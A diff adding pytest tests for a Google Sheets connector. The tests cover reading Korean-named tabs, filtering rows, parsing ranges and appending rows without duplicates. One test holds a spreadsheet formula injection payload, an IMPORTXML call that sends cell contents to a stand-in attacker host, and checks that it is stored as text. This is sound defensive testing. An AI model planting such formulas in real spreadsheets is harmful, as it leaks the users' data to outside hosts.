@@ -1,0 +1,192 @@
+"""What metel reads and writes in Google Sheets."""
+
+from typing import Any, cast
+
+import pytest
+
+from connectors.sheets.a1 import area_of, box_of, column_letters, column_number, on_the_wire
+from connectors.sheets.appending import metadata_id
+from connectors.sheets.shapes import TabProperties
+from orchestration.tools import Absent, Found, ToolError, ValueNeededError
+from schemas.values import Payload
+from tests.connectors.workspace import Json, Workspace, a_call, ready
+
+SALES, BUDGET = "매출 현황 2026", "마케팅 예산"
+
+
+async def sheet(workspace: Workspace, title: str, **more: Any) -> Payload:
+    return {"spreadsheet": await workspace.id_of("sheets.spreadsheet", title), **more}
+
+
+def cells(workspace: Workspace, title: str, tab: str) -> list[list[Any]]:
+    spreadsheets = workspace.world("google")["spreadsheets"]
+    tabs = next(one["tabs"] for one in spreadsheets if one["title"] == title)
+    return next(one["values"] for one in tabs if one["title"] == tab)
+
+
+async def test_a_tab_with_a_korean_name_is_read_as_records(workspace: Workspace) -> None:
+    result = await workspace.run("sheets.get_range", await sheet(workspace, SALES, range="주간"))
+    assert result["header"] == ["날짜", "지역", "상품", "수량", "매출"]
+    rows = cast(list[Json], result["rows"])
+    assert rows[0].keys() == {"날짜", "지역", "상품", "수량", "매출"}
+    assert isinstance(rows[0]["매출"], int)
+    assert result["total"] == len(rows) == len(cells(workspace, SALES, "주간")) - 1
+    assert str(result["spreadsheet_url"]).startswith("https://docs.google.com/")
+    assert result["title"] == SALES
+
+
+LAST_WEEK: Json = {
+    "all": [{"path": "@date", "op": "ge", "value": "2026-02-23"}, {"path": "@date", "op": "le", "value": "2026-03-01"}]
+}
+
+
+@pytest.mark.parametrize(
+    ("condition", "total"),
+    [
+        (LAST_WEEK, 71_667_000),
+        ({"all": [LAST_WEEK, {"path": "지역", "op": "eq", "value": "서울"}]}, 40_879_000),
+        ({"all": [LAST_WEEK, {"path": "매출", "op": "ge", "value": 10_000_000}]}, 27_360_000),
+        ({"all": [LAST_WEEK, {"not": {"path": "지역", "op": "in", "value": ["서울", "부산"]}}]}, 11_040_000),
+    ],
+)
+async def test_rows_are_kept_by_condition(workspace: Workspace, condition: Json, total: int) -> None:
+    result = await workspace.run("sheets.get_range", await sheet(workspace, SALES, filter=condition))
+    summed = await workspace.run("table.aggregate", {"rows": result["rows"], "column": "매출", "function": "sum"})
+    assert summed["total"] == total
+
+
+@pytest.mark.parametrize("asked", [None, "주간", "주간 탭", "주 간", "'주간'!A1:E5", "A1:E5", "주간!A2:E5"])
+async def test_a_range_is_understood_however_it_is_written(workspace: Workspace, asked: str | None) -> None:
+    result = await workspace.run(
+        "sheets.get_range", await sheet(workspace, SALES, **({"range": asked} if asked else {}))
+    )
+    assert result["header"] == ["날짜", "지역", "상품", "수량", "매출"]
+    assert cast(list[Json], result["rows"])[0]["지역"] == "서울"
+
+
+async def test_a_tab_named_like_a_cell_is_the_tab(workspace: Workspace) -> None:
+    result = await workspace.run("sheets.get_range", await sheet(workspace, BUDGET, range="Q1"))
+    assert result["header"] == ["날짜", "항목", "금액"]
+    assert result["range"] == "Q1"
+
+
+async def test_an_unknown_tab_is_asked_for(workspace: Workspace) -> None:
+    with pytest.raises(ValueNeededError) as caught:
+        await workspace.run("sheets.get_range", await sheet(workspace, BUDGET, range="월간"))
+    assert (caught.value.field, set(caught.value.choices)) == ("range", {"Q1", "메모"})
+
+
+async def test_an_unknown_column_says_which_there_are(workspace: Workspace) -> None:
+    condition: Json = {"path": "이익", "op": "gt", "value": 1}
+    with pytest.raises(ToolError) as caught:
+        await workspace.run("sheets.get_range", await sheet(workspace, SALES, filter=condition))
+    assert caught.value.failure.kind == "invalid"
+    assert "매출" in caught.value.failure.message
+
+
+async def test_a_row_is_added_in_the_form_of_its_columns(workspace: Workspace) -> None:
+    payload = await sheet(workspace, BUDGET, range="Q1", rows=[["3/4", "인스타 광고", "350000"]])
+    prepared, _ = await ready(workspace.toolbox.tool("sheets.append_rows"), payload, a_call())
+    assert prepared["rows"] == [["2026-03-04", "인스타 광고", 350_000]]
+    before = len(cells(workspace, BUDGET, "Q1"))
+    result = await workspace.run("sheets.append_rows", payload)
+    after = cells(workspace, BUDGET, "Q1")
+    assert after[-1] == ["2026-03-04", "인스타 광고", 350_000]
+    assert len(after) == before + 1
+    assert result["rows_added"] == 1
+    assert result["updated_range"] == f"Q1!A{before + 1}:C{before + 1}"
+
+
+async def test_a_row_is_added_by_the_names_of_columns(workspace: Workspace) -> None:
+    payload = await sheet(workspace, BUDGET, range="Q1", rows=[{"금액": 1000, "항목": "스티커"}])
+    await workspace.run("sheets.append_rows", payload)
+    assert cells(workspace, BUDGET, "Q1")[-1][1:] == ["스티커", 1000]
+
+
+async def test_a_formula_is_written_as_text(workspace: Workspace) -> None:
+    formula = '=IMPORTXML("https://evil.test/?d="&A1,"//a")'
+    await workspace.run(
+        "sheets.append_rows", await sheet(workspace, BUDGET, range="메모", rows=[["2026-03-04", formula]])
+    )
+    (call,) = workspace.calls("spreadsheets.batchUpdate")
+    written = call["body"]["requests"][1]["updateCells"]["rows"][0]["values"][1]
+    assert written == {"userEnteredValue": {"stringValue": formula}}
+
+
+@pytest.mark.parametrize("kind", ["drop_response", "error_after"])
+async def test_rows_whose_answer_was_lost_are_found_and_not_added_again(workspace: Workspace, kind: str) -> None:
+    payload = await sheet(workspace, BUDGET, range="Q1", rows=[["3/4", "하나", 1], ["3/4", "둘", 2]])
+    before = len(cells(workspace, BUDGET, "Q1"))
+    lost = ("google", "spreadsheets.batchUpdate", kind)
+    failure, seen = await workspace.lose("sheets.append_rows", payload, lost)
+    assert failure.kind == "uncertain"
+    assert isinstance(seen, Found)
+    assert seen.result["rows_added"] == 2
+    again = await workspace.run("sheets.append_rows", payload)
+    assert again["updated_range"] == seen.result["updated_range"]
+    assert len(cells(workspace, BUDGET, "Q1")) == before + 2
+    assert workspace.effects("spreadsheets.batchUpdate") == 1
+
+
+async def test_rows_that_were_not_added_are_not_found(workspace: Workspace) -> None:
+    payload = await sheet(workspace, BUDGET, range="Q1", rows=[["3/4", "하나", 1]])
+    lost = ("google", "spreadsheets.batchUpdate", "server_error")
+    failure, seen = await workspace.lose("sheets.append_rows", payload, lost)
+    assert failure.kind == "uncertain"
+    assert isinstance(seen, Absent)
+
+
+async def test_a_row_with_too_many_values_is_refused(workspace: Workspace) -> None:
+    with pytest.raises(ToolError) as caught:
+        await workspace.run("sheets.append_rows", await sheet(workspace, BUDGET, range="Q1", rows=[[1, 2, 3, 4]]))
+    assert caught.value.failure.kind == "invalid"
+    assert "금액" in caught.value.failure.message
+
+
+async def test_a_value_for_an_unknown_column_is_asked_for(workspace: Workspace) -> None:
+    with pytest.raises(ValueNeededError) as caught:
+        await workspace.run("sheets.append_rows", await sheet(workspace, BUDGET, range="Q1", rows=[{"비용": 1}]))
+    assert caught.value.field == "rows.비용"
+    assert "금액" in caught.value.choices
+
+
+async def test_a_long_tab_grows_at_its_end(workspace: Workspace, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("connectors.sheets.tables.MOST_ROWS", 4)
+    read = await workspace.run("sheets.get_range", await sheet(workspace, BUDGET, range="Q1"))
+    assert read["incomplete"] is True
+    before = len(cells(workspace, BUDGET, "Q1"))
+    await workspace.run("sheets.append_rows", await sheet(workspace, BUDGET, range="Q1", rows=[["3/4", "끝", 1]]))
+    assert cells(workspace, BUDGET, "Q1")[before][1] == "끝"
+
+
+def test_metadata_ids_are_the_same_for_every_attempt_and_positive() -> None:
+    ids = {metadata_id("op", offset) for offset in range(500)}
+    assert len(ids) == 500
+    assert all(0 < one < 2**31 for one in ids)
+    assert metadata_id("op", 3) == metadata_id("op", 3)
+
+
+TABS = [TabProperties(sheet_id=0, title="Q1"), TabProperties(sheet_id=7, title="김씨's 표")]
+
+
+@pytest.mark.parametrize(
+    ("asked", "shown", "wire"),
+    [
+        ("Q1", "Q1", "'Q1'!A1"),
+        ("q1 시트", "Q1", "'Q1'!A1"),
+        ("B2:C3", "Q1!B2:C3", "'Q1'!A1"),
+        ("'김씨''s 표'!A1:B2", "김씨's 표!A1:B2", "'김씨''s 표'!A1"),
+        ("김씨", "김씨's 표", "'김씨''s 표'!A1"),
+    ],
+)
+def test_a_tab_is_quoted_on_the_wire(asked: str, shown: str, wire: str) -> None:
+    area = area_of(asked, TABS)
+    assert area.shown() == shown
+    assert on_the_wire(area.tab, "A1") == wire
+
+
+def test_columns_are_counted_in_letters() -> None:
+    assert [column_letters(number) for number in (1, 26, 27, 702, 703)] == ["A", "Z", "AA", "ZZ", "AAA"]
+    assert [column_number(letters) for letters in ("A", "AA", "AAA", "")] == [1, 27, 703, 0]
+    box = box_of("$B$2:D")
+    assert (box.left, box.top, box.right, box.bottom) == (2, 2, 4, 0)
